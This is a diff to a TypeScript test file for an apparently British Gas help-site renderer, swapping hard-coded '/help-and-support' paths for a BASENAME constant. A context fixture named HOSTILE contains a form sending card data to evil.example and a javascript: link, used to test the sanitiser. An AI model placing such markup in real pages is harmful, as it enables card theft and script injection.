@@ -5,6 +5,7 @@ import type { Library, SourcedArticle } from '../../../../scripts/build/content-
 import type { PlannedPage } from '../../../../scripts/build/pages';
 import { articleView, pageHtml } from '../../../../scripts/build/render';
 import { escapeHtml } from '../../../../src/lib/escape-html';
+import { BASENAME } from '@/config/paths';
 
 /** A reading template as Vite writes index.html: the description's attributes over several lines. */
 const TEMPLATE = `<!doctype html>
@@ -69,10 +70,10 @@ describe("a prerendered page's HTML", () => {
   it('adds the canonical link, escaped, only when asked', () => {
     const html = pageHtml(TEMPLATE, '', {
       title: 'A',
-      canonical: 'https://www.britishgas.co.uk/help-and-support/meters/faulty-meter?a=1&b=2',
+      canonical: `https://www.britishgas.co.uk${BASENAME}/meters/faulty-meter?a=1&b=2`,
     });
     expect(head(html)).toContain(
-      '<link rel="canonical" href="https://www.britishgas.co.uk/help-and-support/meters/faulty-meter?a=1&amp;b=2" />',
+      `<link rel="canonical" href="https://www.britishgas.co.uk${BASENAME}/meters/faulty-meter?a=1&amp;b=2" />`,
     );
     expect(pageHtml(TEMPLATE, '', { title: 'A' })).not.toContain('rel="canonical"');
   });
@@ -108,7 +109,7 @@ describe("a prerendered page's HTML", () => {
 
   it('accepts a body with a script that loads a file', () => {
     expect(() =>
-      pageHtml(TEMPLATE, '<script type="module" src="/help-and-support/a.js"></script>', {
+      pageHtml(TEMPLATE, `<script type="module" src="${BASENAME}/a.js"></script>`, {
         title: 'A',
       }),
     ).not.toThrow();
@@ -180,8 +181,8 @@ const HOSTILE = `
   <form action="https://evil.example/collect"><input name="card"><button>Send</button></form>
   <a href="javascript:alert(1)">Click</a>
   <a href="https://evil.example/page">Elsewhere</a>
-  <a href="/help-and-support/emergencies/gas-leak">Gas leak</a>
-  <a href="https://www.britishgas.co.uk/help-and-support/contact-us">Contact us</a>
+  <a href="${BASENAME}/emergencies/gas-leak">Gas leak</a>
+  <a href="https://www.britishgas.co.uk${BASENAME}/contact-us">Contact us</a>
 `;
 
 describe("an article's view, from its CMS document", () => {
@@ -213,9 +214,9 @@ describe("an article's view, from its CMS document", () => {
 
   it("gives a link on the page's own origin no rel", () => {
     const { safeHtml } = view(cmsDocument(HOSTILE));
-    expect(safeHtml).toContain('<a href="/help-and-support/emergencies/gas-leak">Gas leak</a>');
+    expect(safeHtml).toContain(`<a href="${BASENAME}/emergencies/gas-leak">Gas leak</a>`);
     expect(safeHtml).toContain(
-      '<a href="https://www.britishgas.co.uk/help-and-support/contact-us">Contact us</a>',
+      `<a href="https://www.britishgas.co.uk${BASENAME}/contact-us">Contact us</a>`,
     );
   });
 
@@ -227,7 +228,7 @@ describe("an article's view, from its CMS document", () => {
       () => 'Meters',
     );
     expect(safeHtml).toContain(
-      '<a href="https://www.britishgas.co.uk/help-and-support/contact-us" rel="noopener noreferrer">',
+      `<a href="https://www.britishgas.co.uk${BASENAME}/contact-us" rel="noopener noreferrer">`,
     );
   });
 
